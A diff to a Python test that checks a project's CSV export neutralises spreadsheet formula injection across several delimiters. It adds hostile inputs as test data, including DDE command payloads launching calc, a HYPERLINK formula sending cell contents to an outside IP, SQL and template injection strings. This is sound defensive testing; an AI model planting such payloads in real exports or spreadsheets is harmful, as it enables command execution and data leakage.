@@ -5,6 +5,7 @@ import io
 import json
 import os
 import random
+import re
 import zipfile
 from xml.etree import ElementTree
 
@@ -19,6 +20,7 @@ from kg.harvest import Harvest
 from kg.model import Audience
 from kg.pipeline import build
 
+NUMBER = re.compile(r"-\d+(?:\.\d+)?")
 LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
 OURS = (
     *(f"{sign}1+cmd|' /C calc'!A0" for sign in LIVE),
@@ -33,6 +35,10 @@ OURS = (
     "\ufeff\u202e\u0000\ud7ff\ufffe",
     "' OR 1=1 --",
     "{{7*7}}${7*7}",
+    'x;=HYPERLINK("http://192.0.2.1/"&A1);y',
+    "a\t=1+1\tb|@SUM(A1)|-1+1",
+    'q";=1+1;"and; "=2',
+    "line\r\n=1+1\r+2",
 )
 COLUMNS = ("ID", "Title", "Outcome description", "Country", "Round", "Own = column", "Confidential")
 
@@ -152,9 +158,16 @@ def test_no_cell_of_the_tables_is_live_and_no_name_comes_from_data(harvest):
     with zipfile.ZipFile(io.BytesIO(harvest.export("csv"))) as archive:
         names = set(archive.namelist())
         tables = [archive.read(name).decode() for name in names if name.endswith(".csv")]
-    cells = [cell for t in tables for row in csv.reader(io.StringIO(t, newline="")) for cell in row]
+    # A spreadsheet parts lines at the separator of lists of its country.
+    cells = [
+        cell
+        for mark in ",;\t|"
+        for t in tables
+        for row in csv.reader(io.StringIO(t, newline=""), delimiter=mark)
+        for cell in row
+    ]
 
-    assert [cell for cell in cells if cell.startswith(LIVE)] == []
+    assert [c for c in cells if c.startswith(LIVE) and not NUMBER.fullmatch(c.strip())] == []
     assert names == {
         *("datapackage.json", "outcomes.csv", "texts.csv", "organisations.csv"),
         *("participations.csv", "links.csv", "framework.csv"),
